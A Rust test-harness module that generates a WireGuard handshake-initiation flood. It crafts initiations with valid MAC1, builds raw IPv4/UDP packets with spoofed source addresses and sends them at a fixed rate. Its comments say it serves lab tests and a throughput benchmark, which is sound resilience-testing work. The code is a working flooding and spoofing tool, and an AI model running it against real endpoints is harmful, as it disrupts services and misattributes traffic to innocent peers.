//! A WireGuard handshake flood, as an attacker on the Internet sends it: initiations with a valid
//! MAC1 for the victim's public key (anyone who knows the key can compute it), from a key the
//! victim does not know, in IPv4 packets whose source is spoofed (a peer's real endpoint, say),
//! sent on a raw socket at a fixed rate. Used by the handshake-flood lab tests and by
//! `patronus bench throughput --flood-rate`.

use std::net::SocketAddrV4;
use std::time::{Duration, Instant};

use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519::{PublicKey, StaticSecret};

/// `count` distinct handshake initiations to `to` (a public key) from a key nobody knows, each
/// in an IPv4/UDP packet from `src` to `dst`.
pub fn initiations(to: [u8; 32], src: SocketAddrV4, dst: SocketAddrV4, count: u32) -> Vec<Vec<u8>> {
    (0..count)
        .filter_map(|i| {
            let mut t = Tunn::new(
                StaticSecret::from([7; 32]),
                PublicKey::from(to),
                None,
                None,
                i,
                None,
            );
            let mut out = vec![0u8; 256];
            match t.format_handshake_initiation(&mut out, false) {
                TunnResult::WriteToNetwork(d) => Some(spoofed(src, dst, d)),
                _ => None,
            }
        })
        .collect()
}

/// An IPv4/UDP packet from `src` to `dst` carrying `payload` (checksums left to nobody: the IP
/// one the kernel fills in on a raw socket, the UDP one is optional over IPv4).
pub fn spoofed(src: SocketAddrV4, dst: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let total = (20 + 8 + payload.len()) as u16;
    let mut p = vec![0x45, 0];
    p.extend_from_slice(&total.to_be_bytes());
    p.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]);
    p.extend_from_slice(&src.ip().octets());
    p.extend_from_slice(&dst.ip().octets());
    p.extend_from_slice(&src.port().to_be_bytes());
    p.extend_from_slice(&dst.port().to_be_bytes());
    p.extend_from_slice(&(8 + payload.len() as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    p
}

/// Sends `pkts` round and round on a raw socket (in the calling thread's namespace) at `rate`
/// per second for `duration`, or until `stop` says so; returns how many went.
pub fn send(
    pkts: &[Vec<u8>],
    dst: SocketAddrV4,
    rate: u64,
    duration: Duration,
    stop: &std::sync::atomic::AtomicBool,
) -> std::io::Result<u64> {
    use socket2::{Domain, Protocol, SockAddr, Socket, Type};
    if pkts.is_empty() {
        return Ok(0);
    }
    // IPPROTO_RAW: the packets carry their own IP header.
    let s = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
    let to = SockAddr::from(dst);
    let start = Instant::now();
    let mut sent = 0u64;
    loop {
        let t = start.elapsed();
        if t >= duration || stop.load(std::sync::atomic::Ordering::Relaxed) {
            return Ok(sent);
        }
        let due = (t.as_secs_f64() * rate as f64) as u64;
        while sent < due {
            // A full socket buffer is the attacker's problem: count what the kernel took.
            if s.send_to(&pkts[(sent % pkts.len() as u64) as usize], &to)
                .is_ok()
            {
                sent += 1;
            } else {
                break;
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}
